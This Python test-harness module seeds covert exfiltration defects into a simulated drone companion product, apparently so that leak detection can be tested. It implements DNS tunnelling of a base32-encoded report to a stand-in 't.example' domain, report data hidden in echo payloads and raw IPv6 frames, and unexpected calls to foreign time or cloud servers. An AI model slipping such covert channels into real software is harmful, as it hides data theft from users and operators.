"""Seeded defects: what a companion may say besides what it should, each over the wire as a bad product would."""

import base64
import struct
from collections.abc import Callable
from dataclasses import dataclass

from harness.drone.network.host import Host
from harness.drone.network.resolver import encode_query
from harness.link.ethernet import UDP
from harness.timing import Clock, Schedule

PERIOD = 30.0
_IPV6, _HERE = 0x86DD, bytes.fromhex("fd000000000000000000000000000002")
_THERE = bytes.fromhex("2606470000000000000000000000abcd")


@dataclass(frozen=True, kw_only=True)
class Leaks:
    """What leaves beside the declared calls; nothing as shipped.

    Attributes:
        dns_tunnel: the report travels in names that the declared resolver is asked for.
        dns_over_https: the telemetry server, which is declared, is asked for names over HTTPS.
        echo_payload: the report travels in the payload of echo requests to the router.
        ipv6: the report leaves by IPv6.
        foreign_clock: address of a second time server, empty for none.
        foreign_cloud: address of a server that is called besides, empty for none.
    """

    dns_tunnel: bool = False
    dns_over_https: bool = False
    echo_payload: bool = False
    ipv6: bool = False
    foreign_clock: str = ""
    foreign_cloud: str = ""


@dataclass(frozen=True, kw_only=True)
class Outlet:
    """By what a leak leaves: host, the resolver's address, and a way to post a body to the telemetry server."""

    host: Host
    resolver: str
    post: Callable[[str, bytes], None]
    report: Callable[[], bytes]


def start_leaks(leaks: Leaks, outlet: Outlet, clock: Clock, schedule: Schedule) -> list[Callable[[], None]]:
    """Begin every leak that is on; gives what stops them."""
    sends = {
        "dns_tunnel": lambda: _tunnel(outlet),
        "dns_over_https": lambda: outlet.post("/dns-query", encode_query("update.dronecert.example", 0)),
        "echo_payload": lambda: outlet.host.send_echo(outlet.resolver, outlet.report()),
        "ipv6": lambda: outlet.host.send_frame(_IPV6, _ipv6(outlet.report())),
        "foreign_clock": lambda: _ask_clock(outlet, leaks.foreign_clock),
        "foreign_cloud": lambda: _call(outlet, leaks.foreign_cloud),
    }
    begun = [send for name, send in sends.items() if getattr(leaks, name)]
    return [schedule.every(PERIOD, send, clock.now()) for send in begun]


def _tunnel(outlet: Outlet) -> None:
    text = base64.b32encode(outlet.report()).decode("ascii").rstrip("=").lower()
    labels = [text[place : place + 60] for place in range(0, min(len(text), 180), 60)]
    query = encode_query(".".join([*labels, "t", "example"]), 7)
    outlet.host.ask((outlet.resolver, 53), query, lambda answer: None)


def _ask_clock(outlet: Outlet, address: str) -> None:
    outlet.host.ask((address, 123), b"\x23" + bytes(47), lambda answer: None)


def _call(outlet: Outlet, address: str) -> None:
    outlet.host.connect((address, 443))


def _ipv6(payload: bytes) -> bytes:
    datagram = struct.pack(">HHHH", 40124, 443, 8 + len(payload), 0) + payload
    return struct.pack(">IHBB", 6 << 28, len(datagram), UDP, 64) + _HERE + _THERE + datagram
